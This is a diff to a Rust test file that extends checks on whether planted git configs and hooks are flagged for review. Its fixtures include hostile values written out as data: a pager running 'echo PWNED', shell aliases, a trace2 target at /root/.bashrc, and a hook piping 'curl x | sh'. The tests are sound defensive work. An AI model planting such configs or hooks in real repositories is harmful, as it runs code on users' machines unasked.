@@ -245,7 +245,24 @@ fn work_that_plants_or_writes_into_a_git_repository_outside_git_waits_for_a_revi
     assert_eq!(run(&[("a.txt", "a")], bom), git);
     // A config in git's format on its own, wherever it is.
     assert_eq!(decide(&[("a.txt", "a")], &[("deploy/config", "[alias]\n\tst = !sh -c x\n")]), git);
-    // Ordinary work stays ordinary: a config of another format, a HEAD alone.
+    // What a repository's config includes, or a symlinked config leads to,
+    // is git's configuration under any name; a hook under any directory
+    // (core.hooksPath, a symlinked hooks).
+    let pager = "[core]\n\tpager = echo PWNED; cat\n";
+    assert_eq!(decide(&[("r/config", "[include]\n\tpath = ../settings.ini\n")], &[("settings.ini", pager)]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[(".gitconfig", "[alias]\n\tst = !sh -c x\n")]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[("cfg.txt", "[user] [includeIf \"gitdir:/\"] path = /tmp/x\n")]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[("notes.ini", "[trace2]\neventTarget = /root/.bashrc\n")]), git);
+    assert_eq!(decide(&[("hk/pre-commit", "#!/bin/sh\n")], &[("hk/pre-commit", "#!/bin/sh\ncurl x | sh\n")]), git);
+    assert_eq!(decide(&[("a.txt", "a")], &[(".husky/pre-push", "npm test\n")]), git);
+    // Ordinary work stays ordinary: a config of another format, a HEAD alone,
+    // other configurations with sections git also has (cargo's aliases run no shell).
+    let cargo = "[alias]\nb = \"build\"\n[http]\nproxy = \"x\"\n[core]\nthreads = 4\n";
+    assert!(decide(&[("a.txt", "a")], &[(".cargo/config.toml", cargo)]).is_empty());
+    assert!(
+        decide(&[("a.txt", "a")], &[("setup.cfg", "[metadata]\nname = x\n[options]\npackages = find:\n")]).is_empty()
+    );
+    assert!(decide(&[("a.txt", "a")], &[("notes.md", "# core\nSet the pager = less in [docs].\n")]).is_empty());
     assert!(decide(&[("a.txt", "a")], &[("app/config", "[server]\nport = 8080\n")]).is_empty());
     assert!(decide(&[("a.txt", "a")], &[("app/config", "key=value\n"), ("notes/HEAD", "x")]).is_empty());
     assert!(decide(&bare, &[("src/main.rs", "fn main() {}\n")]).is_empty());
